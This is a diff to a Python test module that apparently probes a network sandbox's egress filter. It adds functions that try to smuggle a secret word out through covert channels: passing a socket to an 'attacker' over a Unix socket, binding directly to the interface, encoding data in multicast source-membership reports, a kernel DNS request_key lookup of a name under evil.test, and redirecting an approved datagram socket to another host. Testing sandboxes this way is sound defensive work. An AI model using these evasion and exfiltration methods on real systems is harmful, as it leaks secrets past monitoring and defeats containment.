@@ -191,7 +191,8 @@ def marks(address, port, word):
 
 class Mmsg(ctypes.Structure):
     _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.c_void_p), ("iovlen", ctypes.c_size_t),
-                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int), ("len", ctypes.c_uint)]
+                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int), ("pad", ctypes.c_int),
+                ("len", ctypes.c_uint)]
 
 
 def sendmmsg(first, first_port, address, port, word):
@@ -256,13 +257,13 @@ def covert(address, port, sport):
                 print(error)
 
 
-def frame(address, port, word, gateway):
+def frame(address, port, word, gateway, me=None):
     """A frame by packet socket: it does not go through the output hook of its own namespace."""
     import raw
 
     index, name = next((i, n) for i, n in socket.if_nameindex() if n != "lo")
     mac = interface(0x8927, name)[18:24].hex()  # SIOCGIFHWADDR
-    me = socket.inet_ntoa(interface(0x8915, name)[20:24])  # SIOCGIFADDR
+    me = me or socket.inet_ntoa(interface(0x8915, name)[20:24])  # SIOCGIFADDR
     if name != "c0":  # under `sluice run`: the other end of its own link
         gateway = "ff:ff:ff:ff:ff:ff"
         for line in open("/proc/net/arp", encoding="ascii").readlines()[1:]:
@@ -296,6 +297,57 @@ def passed(path, word):
     _, control, _, _ = sock.recvmsg(10, 100)
     descriptor.frombytes(control[0][2][:4])
     os.write(descriptor[1], word.encode())
+
+
+def pass_on(path, address, port):
+    """Makes a socket toward the attacker and gives it to whoever calls."""
+    listener = socket.socket(socket.AF_UNIX)
+    if os.path.exists(path):
+        os.unlink(path)
+    listener.bind(path)
+    os.chmod(path, 0o666)
+    listener.listen(1)
+    listener.settimeout(60)
+    print("listening", flush=True)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.connect((address, int(port)))
+    conn = listener.accept()[0]
+    conn.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [sock.fileno()]))])
+
+
+def device(address, port, word):
+    name = next(n for _, n in socket.if_nameindex() if n != "lo")
+    for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
+        sock = datagram(address, kind)
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name.encode() + b"\0")
+        sock.connect((address, int(port)))
+        sock.send(word.encode())
+        wait(sock)
+
+
+def member(word):
+    """The last eight digits of the word as the source of a group (IP_ADD_SOURCE_MEMBERSHIP): the kernel reports it to the link."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    name = next(n for _, n in socket.if_nameindex() if n != "lo")
+    own = interface(0x8915, name)[20:24]
+    sock.setsockopt(socket.IPPROTO_IP, 39, socket.inet_aton("232.1.1.1") + own + bytes.fromhex(word[-8:]))
+    time.sleep(0.8)
+
+
+def keys(word):
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall(249, b"dns_resolver", word.encode() + b".evil.test", b"", -3)  # request_key
+    print("not there" if ctypes.get_errno() == errno.ENOSYS else "made")
+
+
+def then_elsewhere(word):
+    """One unconnected socket, one port: what was approved for its first datagram says nothing of the second."""
+    to = socket.getaddrinfo("mirror.test", 9123, socket.AF_INET)[0][4]
+    sock = datagram("198.18.2.81")
+    sock.sendto(b"allowed", to)
+    wait(sock)
+    for _ in range(3):
+        sock.sendto(word.encode(), ("198.18.3.66", 9999))
 
 
 def uring(address, port, word):
